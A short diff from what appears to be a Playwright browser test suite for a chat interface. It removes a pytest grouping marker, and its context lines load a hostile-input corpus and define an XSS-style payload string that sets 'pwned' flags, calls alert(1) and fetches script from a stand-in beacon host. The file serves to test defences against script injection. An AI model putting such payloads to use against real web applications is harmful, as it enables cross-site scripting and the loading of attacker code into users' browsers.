@@ -11,8 +11,6 @@ from playwright.sync_api import expect
 from tests.browser.test_chat import Chat
 from tests.servers.ollama_models import Script
 
-pytestmark = pytest.mark.xdist_group("browser")
-
 CORPUS = yaml.safe_load(Path(__file__).with_name("hostile.yml").read_text(encoding="utf-8"))
 RUN = "top.pwned=1,parent.pwned=1,window.pwned=1,alert(1),fetch('BEACON/script')"
 BEACON = "http://beacon.example"
